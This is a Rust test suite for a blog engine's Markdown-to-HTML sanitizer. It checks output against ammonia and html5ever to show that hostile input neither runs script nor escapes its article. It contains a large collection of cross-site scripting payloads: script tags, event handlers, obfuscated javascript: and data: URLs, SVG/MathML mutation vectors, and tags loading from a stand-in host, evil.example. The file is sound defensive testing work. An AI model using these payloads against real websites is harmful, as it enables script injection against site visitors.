//! No Markdown, however hostile, breaks out of its article or runs anything.
//!
//! Two programs that others wrote are asked: `ammonia` whether anything is left to remove, and
//! `html5ever`, which parses as browsers do, whether the article is the same tree alone and in its
//! page. Every input goes through all oracles; [`complaint`] lists them.

#![cfg(not(target_arch = "wasm32"))]

#[path = "support/dom.rs"]
mod dom;

use std::{
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

use slashlog::{
    markdown::{self, Policy, Sidecar},
    messages::Messages,
    route::Prefix,
};

/// Elements that may stand in an article. This list and the next are the promise, written down a
/// second time: the sanitizer's own tables are not asked.
const ELEMENTS: [&str; 72] = [
    "a",
    "abbr",
    "article",
    "aside",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "button",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "source",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
];

/// Attributes of an author's raw HTML, and those without dangerous values that we write ourselves.
const ATTRIBUTES: [(&str, &[&str]); 25] = [
    ("a", &["aria-label", "href"]),
    ("audio", &["controls", "loop", "muted", "preload", "src"]),
    ("blockquote", &["cite"]),
    ("button", &["aria-label", "data-action", "hidden"]),
    ("code", &["class"]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("del", &["cite", "datetime"]),
    ("details", &["open"]),
    ("div", &["aria-label"]),
    (
        "img",
        &["alt", "decoding", "height", "loading", "src", "width"],
    ),
    ("input", &["aria-label", "checked", "disabled"]),
    ("ins", &["cite", "datetime"]),
    ("li", &["value"]),
    ("ol", &["reversed", "start", "type"]),
    ("pre", &[]),
    ("q", &["cite"]),
    ("section", &["aria-label"]),
    ("source", &["src", "type"]),
    ("sup", &[]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan", "scope"]),
    ("time", &["datetime"]),
    ("ul", &[]),
    (
        "video",
        &[
            "controls",
            "height",
            "loop",
            "muted",
            "playsinline",
            "poster",
            "preload",
            "src",
            "width",
        ],
    ),
];

/// Attributes that only we write, each with every value we give it.
const OWN_VALUES: [(&str, &str, &[&str]); 9] = [
    ("a", "aria-hidden", &["true"]),
    ("a", "role", &["doc-backlink", "doc-noteref"]),
    ("a", "tabindex", &["-1"]),
    ("button", "type", &["button"]),
    ("div", "role", &["note", "region"]),
    ("div", "tabindex", &["0"]),
    ("input", "type", &["checkbox"]),
    ("pre", "tabindex", &["0"]),
    ("section", "role", &["doc-endnotes"]),
];

/// Our classes. An author's raw HTML has none: it would be styled as a part of the page.
const OWN_CLASSES: [(&str, &[&str]); 10] = [
    ("a", &["anchor", "footnote-back"]),
    ("button", &["code__copy", "enlarge"]),
    (
        "div",
        &[
            "table",
            "alert",
            "alert-note",
            "alert-tip",
            "alert-important",
            "alert-warning",
            "alert-caution",
        ],
    ),
    ("figure", &["code"]),
    ("p", &["alert__title"]),
    ("section", &["footnotes"]),
    ("span", &["code__language"]),
    ("sup", &["footnote-ref"]),
    ("td", &["center", "right"]),
    ("th", &["center", "right"]),
];

static AMMONIA: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let set = |names: &[&'static str]| names.iter().copied().collect::<HashSet<_>>();
    let mut values: HashMap<&str, HashMap<&str, HashSet<&str>>> = HashMap::new();
    for (element, attribute, allowed) in OWN_VALUES {
        values
            .entry(element)
            .or_default()
            .insert(attribute, set(allowed));
    }
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(set(&ELEMENTS))
        .generic_attributes(set(&["dir", "id", "lang", "title"]))
        .tag_attributes(
            ATTRIBUTES
                .iter()
                .map(|(element, names)| (*element, set(names)))
                .collect(),
        )
        .tag_attribute_values(values)
        .allowed_classes(
            OWN_CLASSES
                .iter()
                .map(|(element, names)| (*element, set(names)))
                .collect(),
        )
        .url_schemes(set(&["http", "https", "mailto", "tel"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(None);
    builder
});

/// An article as it stands in a page. The headings get the ids that the compiler would give them.
fn render(markdown: &str) -> String {
    let outline = markdown::outline(markdown, Policy::default());
    let sidecar = Sidecar {
        headings: (1..=outline.headings.len())
            .map(|number| format!("heading-{number}"))
            .collect(),
        ..Sidecar::default()
    };
    let prefix = Prefix::absolute("/blog");
    markdown::to_html(markdown, &sidecar, &prefix, &Messages::default()).html
}

fn page(article: &str) -> String {
    format!(
        "<!doctype html><html><body><div class=page><main><article><div class=prose>{article}</div></article></main>\
         <footer id=f></footer></div></body></html>"
    )
}

/// What is wrong with the article of a text, if anything is.
fn complaint(markdown: &str) -> Option<String> {
    let html = render(markdown);
    let tree = dom::fragment(&html);
    left_to_remove(&html, &tree)
        .or_else(|| leaves_its_place(&html))
        .or_else(|| tree.descendants().iter().find_map(danger))
        .or_else(|| {
            dom::repairs(&html.replace('\0', ""))
                .first()
                .map(|repair| format!("the parser repairs the nesting: {repair}"))
        })
        .map(|complaint| format!("{complaint}\n\n--- Markdown\n{markdown}\n--- HTML\n{html}"))
}

/// `ammonia`, with exactly our lists, finds something to remove.
fn left_to_remove(html: &str, tree: &dom::Node) -> Option<String> {
    // Both are written once more, for what writing changes (a line end at the start of `<pre>` goes).
    let ours = dom::fragment(&tree.html()).picture();
    let theirs = dom::fragment(&AMMONIA.clean(html).to_string()).picture();
    difference(&ours, &theirs).map(|difference| format!("ammonia changes the tree: {difference}"))
}

/// Parsed in its page, the article is another tree than alone, or the page is another around it.
fn leaves_its_place(html: &str) -> Option<String> {
    let whole = dom::document(&page(html));
    let expected = dom::document(&page(""));
    expected.one("div.prose").adopt(&dom::fragment(html));
    let (whole, expected) = (whole.picture(), expected.picture());
    difference(&expected, &whole)
        .map(|difference| format!("in its page the article is another tree: {difference}"))
}

/// The first line in which two pictures differ.
fn difference(expected: &str, actual: &str) -> Option<String> {
    let longest = expected.lines().count().max(actual.lines().count());
    let mut lines = expected
        .lines()
        .chain(std::iter::repeat(""))
        .zip(actual.lines().chain(std::iter::repeat("")))
        .take(longest);
    lines
        .find(|(expected, actual)| expected != actual)
        .map(|(expected, actual)| format!("`{}` became `{}`", expected.trim(), actual.trim()))
}

/// Something that runs, styles, or takes a name of the page's.
fn danger(node: &dom::Node) -> Option<String> {
    let is_wrong = |name: &str, value: &str| match name {
        "style" => true,
        "id" => !["x_", "_fn", "heading-"]
            .iter()
            .any(|ours| value.starts_with(ours)),
        "href" | "src" | "poster" | "cite" => runs(value),
        _ => name.starts_with("on"),
    };
    let attributes = node.attributes();
    let wrong = attributes
        .iter()
        .find(|(name, value)| is_wrong(name, value));
    wrong.map(|(name, value)| format!("`<{}>` has {name}={value:?}", node.name()))
}

/// True for an address that does not lead to a page: read as the URL standard says, which takes out
/// tabs and line ends and skips controls and blanks before the scheme.
fn runs(address: &str) -> bool {
    let address: String = address
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect();
    let address = address
        .trim_start_matches(|c: char| c <= ' ')
        .to_ascii_lowercase();
    ["javascript:", "data:", "vbscript:", "file:", "blob:"]
        .iter()
        .any(|scheme| address.starts_with(scheme))
}

#[track_caller]
fn check(markdown: &str) {
    if let Some(complaint) = complaint(markdown) {
        panic!("{complaint}");
    }
}

/// Each input also stands in every kind of block and line that Markdown has.
#[track_caller]
fn check_everywhere(hostile: &str) {
    let indented = hostile.replace('\n', "\n  ");
    let line = hostile.replace('\n', " ");
    check(hostile);
    check(&format!("before {hostile}\n\nafter"));
    check(&format!("- {indented}\n- next\n"));
    check(&format!("- loose\n\n  {indented}\n\n- next\n"));
    check(&format!("> {}\n\nafter", hostile.replace('\n', "\n> ")));
    check(&format!(
        "> [!NOTE]\n> {}\n\nafter",
        hostile.replace('\n', "\n> ")
    ));
    check(&format!("# {line}\n\nafter"));
    check(&format!("| a | b |\n|---|--:|\n| {line} | *x* |\n\nafter"));
    check(&format!("text[^1]\n\n[^1]: {line}\n\nafter"));
    check(&format!("term\n: {line}\n\nafter"));
    check(&format!(
        "[{line}](a.md) *{line}* **{line} [x](b.md)**\n\nafter"
    ));
    check(&format!("![{line}](a.png \"{line}\")\n\nafter"));
    check(&format!("<div>\n\n{hostile}\n\nbetween\n\n</div>\n\nafter"));
    check(&format!("<table>\n\n{hostile}\n\n</table>\n\nafter"));
    check(&format!("<a href=x>\n\n{hostile}\n\n</a>\n\nafter"));
}

#[test]
fn nothing_runs() {
    for hostile in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script >",
        "<script>alert(1)",
        "<script><!--<script>alert(1)</script>--></script>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror='alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<img src=x oNeRrOr=alert(1)>",
        "<img src=x on\u{130}error=alert(1)>",
        "<img src=x\nonerror=alert(1)>",
        "<img src=x title='a' onerror=alert(1) x='\">",
        "<img src='x' alt='`onerror=alert(1)'>",
        "<a onclick=alert(1)>x</a>",
        "<b onmouseover=alert(1)>x</b>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video src=x onloadstart=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<div onpointerenter=alert(1)>x</div>",
        "<body onload=alert(1)>x</body>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe><img src=x onerror=alert(1)></iframe>",
        "<object data=x.swf></object>",
        "<embed src=x.swf>",
        "<applet code=x></applet>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<style>*{display:none}</style>",
        "<style>@import '//evil.example/x.css'</style>",
        "<p style=position:fixed>x</p>",
        "<p STYLE='background:url(javascript:alert(1))'>x</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext>x",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<noframes><img src=x onerror=alert(1)></noframes>",
        "<frameset onload=alert(1)><frame src=x></frameset>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<x-element onclick=alert(1)>x</x-element>",
        "<portal src=//evil.example></portal>",
        "<dialog open>x</dialog>",
        "<slot name=x>x</slot>",
    ] {
        check_everywhere(hostile);
    }
}

#[test]
fn no_address_runs() {
    for hostile in [
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&#58;alert(1)\">x</a>",
        "<a href=\"javascript&#x3a;alert(1)\">x</a>",
        "<a href=\"javascript&#0000058alert(1)\">x</a>",
        "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
        "<a href=\"&NewLine;javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x00;ascript:alert(1)\">x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=file:///etc/passwd>x</a>",
        "<a href=blob:x>x</a>",
        "<a href=feed:javascript:alert(1)>x</a>",
        "<a href=view-source:javascript:alert(1)>x</a>",
        "<a href=x href=javascript:alert(1)>x</a>",
        "<a href=javascript:alert(1) href=x>x</a>",
        "<a HREF=x href=javascript:alert(1)>x</a>",
        "<img src=javascript:alert(1)>",
        "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<video poster=javascript:alert(1)></video>",
        "<video><source src=javascript:alert(1)></video>",
        "<audio src=data:audio/mp3,x></audio>",
        "<q cite=javascript:alert(1)>x</q>",
        "<blockquote cite=\"java&Tab;script:alert(1)\">x</blockquote>",
        "<del cite=data:x>x</del>",
        "<a ping=//evil.example href=x>x</a>",
        "<a target=_top href=x>x</a>",
        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
        "[x](javascript:alert(1))",
        "[x](<java script:alert(1)>)",
        "[x](JAVASCRIPT:alert(1) \"title\")",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\\script:alert(1))",
        "[x](<&Tab;javascript:alert(1)>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,x)",
        "[![x](javascript:alert(1))](javascript:alert(1))",
        "[x](https://a.example/\"onmouseover=alert(1))",
        "[x](a \"\\\"onmouseover=alert(1) x=\\\"\")",
    ] {
        check_everywhere(hostile);
    }
}

#[test]
fn no_markup_leaves_the_article() {
    for hostile in [
        "</div></article></main>",
        "</div>",
        "</p></p></p>",
        "</div></div></div></div></div></body></html>",
        "<div></div></div></div>",
        "</main><main>",
        "</footer><footer>",
        "<div>",
        "<div><div><section><article>",
        "<p>",
        "<b><i><u>",
        "<b><p>x</b>y</p>",
        "<a href=x><div>x</a>y</div>",
        "<a href=x>1<a href=y>2</a>3</a>",
        "<ul><li><ol><li></ul>",
        "<li>",
        "<li></ul></ol></dl>",
        "</li></ul>",
        "</blockquote>",
        "</td></tr></table>",
        "<td>",
        "<tr><td>x",
        "<table>",
        "<table><tr>",
        "<table><tr><td>",
        "<table><tr><td><table>",
        "<table><div>x</div></table>",
        "<table>x<tr><td>y</table>",
        "<table><a href=x>y</table>",
        "<table><caption><table></caption>",
        "<table><colgroup><col><tr><td>x</table>",
        "<table><colgroup>x<col></colgroup></table>",
        "<table><tbody></table></tbody>",
        "<table><tr><form><td></form></table>",
        "<table><tr><td><p>x<tr><td>y</table>",
    ] {
        check_everywhere(hostile);
    }
}

#[test]
fn no_form_comment_or_broken_tag_leaves_the_article() {
    for hostile in [
        "<form action=//evil.example><input name=x><button>x</button></form>",
        "</form>",
        "<form><form>",
        "<input type=image src=x>",
        "<input type=hidden name=x>",
        "<button type=submit>x</button>",
        "<select><option>x</select>",
        "<select><b>x</b>",
        "<select><input>",
        "<option>x",
        "<textarea>x",
        "<textarea></textarea><b>x",
        "<title>x</title>",
        "<fieldset><legend>x</legend></fieldset>",
        "<label for=_main>x</label>",
        "<object><param name=x></object>",
        "<head><title>x</title></head>",
        "<html><body>x</body></html>",
        "<!doctype html><html>",
        "<!-- unclosed",
        "<!--> x -->",
        "<!---> x -->",
        "<!-- x --!> y",
        "<![CDATA[ x ]]>",
        "<![CDATA[ unclosed",
        "<?php echo 1 ?>",
        "<? unclosed",
        "<!ELEMENT x>",
        "<h2>x<h3>y</h2>z</h3>",
        "<h2>\n\n## x\n\n</h2>",
        "<pre>\n\n</pre></div>",
        "<pre><p>x</pre></p>",
        "<details><summary>x</details></summary>",
        "<summary></details>",
        "<figure><figcaption></figure>",
        "<dl><dt>x<dd>y<dt>z</dl>",
        "<dd>x",
        "<ruby>x<rt>y<rp>z</ruby>",
        "<rt>x",
        "<video><p>x</video>",
        "<video><source src=x></source>",
        "<source src=x>",
        "<picture><source src=x><img src=y></picture>",
        "<br></br>",
        "<hr></hr><p></hr>",
        "<b id=_main>x</b>",
        "<b id=x class=alert role=button tabindex=1 name=x data-action=copy hidden>x</b>",
        "<b id='\"><script>alert(1)</script>'>x</b>",
        "<b title='</div>'>x</b>",
        "<b title=\"x",
        "<b title='x\" y",
        "<b title=x>y\"</b>",
        "<b =x>y</b>",
        "<b / >x</b>",
        "<b/>x",
        "<b\u{b}title=x>y</b>",
        "<b\u{c}title=x>y</b\u{c}>",
        "<b\u{0}>x</b>",
        "x\u{0}<b>y\u{0}</b>",
        "<b><b><b><b><b>x</b></b></b></b></b>",
        "< b>x</ b>",
        "<\u{212a}bd>x</\u{212a}bd>",
        "</b <i>",
        "</div x=\">",
        "<a<b>x</a<b>",
        "<1>x</1>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&amp;lt;b&gt;",
        "&notanentity; &#xfffffff; &#0; &",
    ] {
        check_everywhere(hostile);
    }
}

/// Each of these passed one of the oracles by only just.
#[test]
fn markdown_and_raw_html_do_not_tear_each_other() {
    for hostile in [
        "*<b>x*</b> y",
        "**<i>a** b</i> c",
        "[<b>x](y)</b>",
        "<a href=x>[y](z)</a>",
        "<a href=x>https://a.example <b@c.example></a>",
        "[<a href=x>y</a>](z)",
        "[a [b](c) d](e)",
        "[note[^1]](x)\n\n[^1]: y",
        "<a href=x>note[^1]</a>\n\n[^1]: y",
        "<a href=x>\n\nnote[^1]\n\n## heading\n\n</a>\n\n[^1]: y",
        "`<b>` <b>`</b>`",
        "<svg> *a </svg> b*",
        "<svg> **a </svg> b** c",
        "<svg> [a </svg> b](c)",
        "<svg><b></svg> x </b> y",
        "<svg><a href=x></svg> [y](z)",
        "*<svg> a* b </svg> c",
        "<script> `a </script> b`",
        "- <svg> a\n  - b\n\n  </svg>",
        "- a <table> *b* </table>\n- c",
        "- a <table>\n  - b\n\n  </table>",
        "- a <table>\\\n  b\n",
        "<table>\n\n| a | b |\n|---|---|\n| c | d |\n\n</table>\n\nafter",
        "<table>\n\n> <div><table><tr><td>x\n\n</table>\n\nafter",
        "<table>\n\n```rust\nfn main() {}\n```\n\n</table>\n\nafter",
        "<table>\n<tr>\n<td>\n\n*x*\n\n</td>\n</tr>\n</table>\n\nafter",
        "<table><tr>\n\nx\n\n</tr></table>\n\nafter",
        "<table><colgroup>\n\nx\n\n</colgroup></table>\n\nafter",
        "<ul>\n\n- x\n\n</ul>\n\n</ul>",
        "<p>\n\n- x\n\n</p>",
        "<p>\n\n---\n\n</p>",
        "<p>\n\n| a |\n|---|\n| b |\n\n</p>",
        "<b>\n\n# x\n\n</b>",
        "<h2>\n\n# x\n\n</h2>",
        "<ruby>\n\n# x\n\n</ruby>",
        "<details>\n<summary>x</summary>\n\n- y\n\n</details>\n\n</details>",
        "[^1]\n\n<div>\n\n[^1]: x </div>\n\n</div>",
        "[^1]\n\n<table>\n\n[^1]: x\n\n</table>",
        "[^1]\n\n[^1]: <b>x\n\n    y</b>\n\n    <div>\n\nz",
        "> <div>\n\n</div>\n\n> x",
        "![<b>x</b>](y \"<b>\")",
        "![a ![b](c) d](e)",
        "![a [b](c) d](e)",
        "![a[^1]](b)\n\n[^1]: c",
        "# <b>x\n\n</b>",
        "# x {#_main}\n\n# y {#\"onclick=alert(1)}\n\n# z {onclick=alert(1) .alert}",
        "```\"><script>alert(1)</script>\nx\n```",
        "```x\" onclick=alert(1)\nx\n```",
        "``` <b>\n</code></pre></figure></div>\n```",
        "    </code></pre></figure></div>",
        "| <b> | </b> |\n|---|---|\n| <div> | </div> |\n| </table> | x |",
        "term\n: <p>x\n: </dl></div>y",
        "- [ ] <b>x\n- [x] </b>",
        "a\\\n<b>b  \nc</b>",
        "https://a.example/<b>x</b>",
        "x<b@c.example>y",
        "<https://a.example/\"><script>>",
    ] {
        check_everywhere(hostile);
    }
}

#[test]
fn depth_is_no_way_out() {
    check(&"<div>".repeat(500));
    check(&"<b><i>".repeat(300));
    check(&format!("{}x", "> ".repeat(200)));
    check(&format!("{}x", "<table><tr><td>".repeat(150)));
    check(&format!("{}x{}", "[".repeat(300), "](y)".repeat(300)));
}

/// Pieces that mean something to one of the parsers involved, alone or beside each other.
const PIECES: [&str; 111] = [
    "text",
    "é",
    "漢字",
    "👩\u{200d}💻",
    "two words",
    " ",
    "\n",
    "\n\n",
    "\t",
    "&",
    "<",
    ">",
    "\"",
    "'",
    "`",
    "``",
    "*",
    "**",
    "_",
    "~~",
    "#",
    "\\",
    "[",
    "]",
    "](x)",
    "](javascript:x)",
    "![",
    "!",
    "(",
    ")",
    "|",
    "\n|---|\n",
    "\n| a | b |\n|---|:-:|\n| c | d |\n",
    "\n- ",
    "\n  - ",
    "\n1. ",
    "\n> ",
    "\n> [!TIP]\n> ",
    "\n## ",
    "\n---\n",
    "\n```\n",
    "\n```html\n",
    "\n    ",
    "\n: ",
    "[^1]",
    "\n\n[^1]: ",
    "\n\n[^2]: ",
    "{#id}",
    "mailto:a ",
    "<a@b.example>",
    "<b>",
    "</b>",
    "<i title=\"",
    "<a href=x>",
    "<a href=\"",
    "</a>",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<div\n",
    "<section>",
    "</main>",
    "</article>",
    "<ul>",
    "<li>",
    "</li>",
    "</ul>",
    "<dl><dt>",
    "<dd>",
    "<table>",
    "<tr>",
    "<td>",
    "</td>",
    "</tr>",
    "</table>",
    "<caption>",
    "<colgroup>",
    "<col>",
    "<tbody>",
    "<thead><th>",
    "<h2>",
    "</h2>",
    "<details>",
    "<summary>",
    "</details>",
    "<ruby>",
    "<rt>",
    "<video>",
    "<source src=x>",
    "</video>",
    "<pre>",
    "</pre>",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<textarea>",
    "</textarea>",
    "<select>",
    "<template>",
    "<!--",
    "-->",
    "<!",
    "<?",
    "<img src=x onerror=x>",
    "&#x6a;",
    "&colon;",
];

/// Numbers that are the same on every machine (Marsaglia's xorshift64).
struct Random(u64);

impl Random {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % limit as u64).unwrap()
    }
}

/// Takes pieces away as long as something is still wrong, so that a failure shows the smallest text.
fn smallest(mut pieces: Vec<&str>) -> String {
    let mut at = 0;
    while at < pieces.len() {
        let mut fewer = pieces.clone();
        fewer.remove(at);
        if complaint(&fewer.concat()).is_some() {
            pieces = fewer;
            at = 0;
        } else {
            at += 1;
        }
    }
    pieces.concat()
}

#[track_caller]
fn check_random(seed: u64, documents: usize) {
    let mut random = Random(seed);
    for _ in 0..documents {
        let pieces: Vec<&str> = (0..2 + random.below(14))
            .map(|_| PIECES[random.below(PIECES.len())])
            .collect();
        if complaint(&pieces.concat()).is_some() {
            check(&smallest(pieces));
        }
    }
}

#[test]
fn thousands_of_random_articles_stay_in_their_place() {
    check_random(0x5eed_0001, 3_000);
}

#[test]
fn thousands_more_stay_in_their_place() {
    check_random(0x5eed_0002, 3_000);
}

/// An oracle that never complains would be no oracle.
#[test]
fn the_oracles_see() {
    for html in [
        "<script>x</script>",
        "<b class=alert>x</b>",
        "<b onclick=x>y</b>",
        "<a href=javascript:x>y</a>",
        "<!-- x -->",
    ] {
        assert!(
            left_to_remove(html, &dom::fragment(html)).is_some(),
            "{html}"
        );
    }
    for html in [
        "</div>",
        "</div></article></main><p>",
        "<table><tr><td></div></table></div>",
        "<!--",
        "<textarea>",
        "<plaintext>",
    ] {
        assert!(leaves_its_place(html).is_some(), "{html}");
    }
    for html in [
        "<b style=x>",
        "<b onx=y>",
        "<b id=_main>",
        "<a href=' JaVa\nScript:x'>",
        "<q cite='data:x'>",
    ] {
        assert!(
            dom::fragment(html)
                .descendants()
                .iter()
                .any(|node| danger(node).is_some()),
            "{html}"
        );
    }
    for html in [
        "<p></div>",
        "<table>x</table>",
        "<b><p></b></p>",
        "<a><a></a></a>",
        "<h2><h3></h3></h2>",
    ] {
        assert!(!dom::repairs(html).is_empty(), "{html}");
    }
}

/// What authors write raw HTML for comes out as they wrote it.
#[track_caller]
fn check_survives(raw: &str) {
    let picture = dom::fragment(&render(raw)).picture();
    let html = raw.replace("id=\"", "id=\"x_");
    assert_eq!(
        picture.replace("\\n\"", "\""),
        dom::fragment(&html).picture(),
        "{raw}"
    );
    check(raw);
}

#[test]
fn what_formats_text_survives() {
    check_survives("<details open><summary>More <b>here</b></summary>Text</details>");
    check_survives(
        "<figure id=\"f\"><img src=\"https://a.example/a.png\" alt=\"A\" width=\"40\" height=\"30\" loading=\"lazy\"><figcaption>B</figcaption></figure>",
    );
    check_survives(
        "<div><video src=\"https://a.example/a.mp4\" poster=\"https://a.example/a.png\" width=\"4\" height=\"3\" controls loop muted playsinline preload=\"none\"></video></div>",
    );
    check_survives(
        "<div><audio controls preload=\"none\"><source src=\"https://a.example/a.ogg\" type=\"audio/ogg\">None</audio></div>",
    );
    check_survives(
        "<div><picture><source src=\"https://a.example/a.avif\" type=\"image/avif\"><img src=\"https://a.example/a.png\" alt=\"\"></picture></div>",
    );
    check_survives(
        "<p>H<sub>2</sub>O x<sup>2</sup> <kbd>Ctrl</kbd>+<kbd>C</kbd> <mark>m</mark> <small>s</small> <s>n</s> <u>u</u></p>",
    );
    check_survives(
        "<p><abbr title=\"Hypertext\">HTML</abbr> <dfn>d</dfn> <samp>s</samp> <var>v</var> <cite>c</cite> <bdo dir=\"rtl\">b</bdo></p>",
    );
    check_survives(
        "<p><del cite=\"https://a.example/\" datetime=\"2026-01-01\">a</del><ins datetime=\"2026-01-02\">b</ins> <time datetime=\"2026-03-22\">today</time></p>",
    );
    check_survives(
        "<p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <q cite=\"https://a.example/\" lang=\"de\">q</q> a<wbr>b<br>c</p>",
    );
    check_survives(
        "<ol start=\"3\" reversed type=\"a\"><li value=\"7\">a<ul><li>b<ul><li>c</li></ul></li></ul></li></ol>",
    );
    check_survives("<dl><dt>a</dt><dd>b</dd></dl>");
    check_survives(
        "<table><caption>c</caption><colgroup><col span=\"2\"></colgroup><thead><tr><th scope=\"col\" colspan=\"2\">a</th></tr></thead><tbody><tr><td rowspan=\"2\">b</td><td>c</td></tr><tr><td>d</td></tr></tbody><tfoot><tr><td>e</td></tr></tfoot></table>",
    );
    check_survives(
        "<blockquote cite=\"https://a.example/\"><p dir=\"rtl\" lang=\"he\" title=\"t\" id=\"i\">q</p></blockquote>",
    );
    check_survives(
        "<section><aside><article><div><h3>h</h3><p>p</p><pre>a\n  b</pre><hr></div></article></aside></section>",
    );
    check_survives(
        "<p><a href=\"https://a.example/?a=1&amp;b=2\">a</a> <a href=\"mailto:a@b.example\">b</a> <a href=\"tel:+1\">c</a></p>",
    );
}

#[test]
fn end_tags_that_may_be_left_out_are_added() {
    check_survives("<ul><li>a<li>b<ul><li>c</ul><li>d</ul>");
    check_survives("<ul><li><p>a<li><p>b</ul>");
    check_survives("<dl><dt>a<dd>b<dt>c<dt>d<dd><p>e</dl>");
    check_survives("<div><p>a<p>b<ul><li>c</ul><p>d</div>");
    check_survives("<table><tr><td>a<td>b<tr><th>c<td>d</table>");
    check_survives("<table><caption>a<tr><td>b</table>");
    check_survives("<table><colgroup><col><col><tr><td>a</table>");
    check_survives(
        "<table><colgroup><col><thead><tr><th>a<tbody><tr><td><p>b<tbody><tr><td>c<tfoot><tr><td>d</table>",
    );
    check_survives("<p><ruby>a<rp>(<rt>b<rp>)</ruby></p>");
}

#[test]
fn markdown_stands_in_what_survives() {
    let html = render(
        "<details>\n<summary>More</summary>\n\n*Text* and a list:\n\n- one\n\n</details>\n\nAfter.\n",
    );
    let details = dom::fragment(&html).one("details");
    assert_eq!(details.one("em").text(), "Text");
    assert_eq!(details.one("li").text().trim(), "one");
    assert!(!details.text().contains("After"));

    let html = render("<table>\n<tr>\n<td>\n\n**Cell**\n\n</td>\n</tr>\n</table>\n");
    assert_eq!(dom::fragment(&html).one("td").one("strong").text(), "Cell");
}

#[test]
fn a_comment_or_a_dropped_element_takes_its_text_along() {
    for markdown in [
        "a <!-- gone --> b",
        "a <svg> gone </svg> b",
        "a <script>gone</script> b",
        "<style>\ngone\n</style>\n\na b",
    ] {
        let text = dom::fragment(&render(markdown)).text();
        assert_eq!(
            text.split_whitespace().collect::<Vec<_>>(),
            ["a", "b"],
            "{markdown}"
        );
    }
}
